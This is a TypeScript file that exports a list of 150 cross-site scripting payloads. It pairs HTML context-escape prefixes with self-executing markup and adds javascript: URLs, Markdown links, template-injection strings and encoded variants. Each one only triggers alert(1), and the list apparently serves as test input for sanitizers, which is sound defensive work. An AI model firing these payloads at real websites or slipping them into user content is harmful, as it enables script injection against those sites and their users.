/** Ways out of the places that a text can stand in. */
const exits = ['', '">', "'>", '</textarea>', '</script>', '</title>', '</style>', '-->', '</select></noscript>', '`>']

/** Markup that runs something by itself, or when it is clicked. */
const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=data:,alert(1)></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math><mtext><img src=x onerror=alert(1)>',
  '<style onload=alert(1)>a{}</style>',
]

/** What is dangerous in one place only: attributes, addresses, Markdown, templates, texts that something decodes. */
const others = [
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" onanimationstart=alert(1) style=animation-name:x x="',
  'x onmouseover=alert(1) y',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '[click](javascript:alert(1))',
  '[click](java&#115;cript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '![x](x"onerror=alert(1)//)',
  '[x](https://a.example/"onclick=alert(1)//)',
  '**<img src=x onerror=alert(1)>**',
  '<javascript:alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '%3Cimg src=x onerror=alert(1)%3E',
]

/** 150 texts, none longer than the shortest setting that takes one. */
export const payloads: readonly string[] = [
  ...exits.flatMap((exit) => markup.map((one) => exit + one)),
  ...others,
].slice(0, 150)
